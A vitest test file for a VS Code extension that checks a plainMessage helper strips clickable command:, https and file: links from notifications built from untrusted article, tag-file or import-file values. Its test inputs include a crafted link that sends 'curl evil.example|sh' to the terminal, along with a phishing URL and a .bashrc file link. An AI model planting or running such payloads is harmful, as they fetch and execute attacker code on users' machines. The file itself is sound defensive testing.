// Notifications: VS Code turns `[label](command:…)` in a notification's message into a link it opens with
// commands allowed, whoever wrote the message. A message quoting an article, a shared tags file or an import
// file (a speaker, a path, a parse error echoing a value) must show those characters without a link forming.
import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseTagFile, TAG_FILE_FORMAT } from '../../src/annotations/tagFile';
import { parseAnnotationsImport } from '../../src/annotations/w3c';
import { plainMessage } from '../../src/vscode/views/labels';
import { repoRoot } from '../helpers/seeds';

// How VS Code finds links in a notification's (and a quick input's) message: `parseLinkedText` in
// src/vs/base/common/linkedText.ts, the same expression as in code-server 4.100.3's workbench.js.
const VSCODE_LINKED_TEXT = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const links = (message: string) => [...message.matchAll(VSCODE_LINKED_TEXT)].map((m) => m[2]);

const CRAFTED = [
  '[Undo](command:workbench.action.terminal.sendSequence?%5B%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D%5D)',
  '[Open the file](command:workbench.action.terminal.new "Open")',
  '[release notes](https://evil.example/login)',
  '[settings](file:///home/user/.bashrc)',
  'Anna [x](command:a) Lee [y](command:b)',
];

describe('plainMessage', () => {
  it.each(CRAFTED)('%s shows its characters, and VS Code finds no link in it', (text) => {
    expect(links(`Removed the quote tag (${text}).`).length).toBeGreaterThan(0);
    const message = plainMessage(`Removed the quote tag (${text}).`);
    expect(links(message)).toEqual([]);
    expect(message.replace(/\u200b/g, '')).toBe(`Removed the quote tag (${text}).`);
  });

  it('leaves a message without link syntax as it is', () => {
    const m = 'News Annotator: imported 3 tags from a News Annotator export (exports/a (1).json): 3 attached, 0 detached.';
    expect(plainMessage(m)).toBe(m);
  });

  it('a shared tags file whose values are links: the error shown on opening the workspace has none', () => {
    const hostile = CRAFTED[0]!;
    const file = JSON.stringify({ format: TAG_FILE_FORMAT, version: 1, tags: [{ kind: hostile, id: 'x' }, { [hostile]: 1 }] });
    const parsed = parseTagFile(file);
    expect(parsed.ok).toBe(false);
    const reason = parsed.ok ? '' : parsed.reason;
    const message = plainMessage(`News Annotator cannot read .news-annotator/tags.json: ${reason}. The file is left untouched.`);
    expect(links(message)).toEqual([]);
  });

  it('an import file whose values are links: the error has none', () => {
    const hostile = CRAFTED[1]!;
    for (const text of [JSON.stringify({ format: hostile }), JSON.stringify({ [hostile]: [] }), `{"${hostile}`]) {
      const parsed = parseAnnotationsImport(text);
      const reason = parsed.ok ? '' : parsed.reason;
      expect(links(plainMessage(`News Annotator: cannot import ${hostile}.json: ${reason}`))).toEqual([]);
    }
  });
});

function sourceFiles(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? sourceFiles(join(dir, e.name)) : e.name.endsWith('.ts') ? [join(dir, e.name)] : []));
}

describe('every notification built from values goes through plainMessage', () => {
  it('no show…Message(`…${…}…`) without plainMessage', () => {
    const unwrapped: string[] = [];
    let calls = 0;
    for (const file of sourceFiles(join(repoRoot, 'src'))) {
      const code = readFileSync(file, 'utf8');
      for (const m of code.matchAll(/\bshow(?:Information|Warning|Error)Message\(\s*([^,)]*)/g)) {
        calls++;
        const first = m[1]!;
        if (first.startsWith('`') && first.includes('${')) unwrapped.push(`${relative(repoRoot, file)}: ${first.slice(0, 80)}`);
        else if (!first.startsWith('plainMessage(') && !/^'[^']*'$|^'[^']*$/.test(first) && !first.startsWith('`')) unwrapped.push(`${relative(repoRoot, file)}: ${first.slice(0, 80)} (a message from a variable)`);
      }
    }
    expect(calls).toBeGreaterThan(10);
    expect(unwrapped, 'wrap these messages in plainMessage() from src/vscode/views/labels.ts').toEqual([]);
  });
});
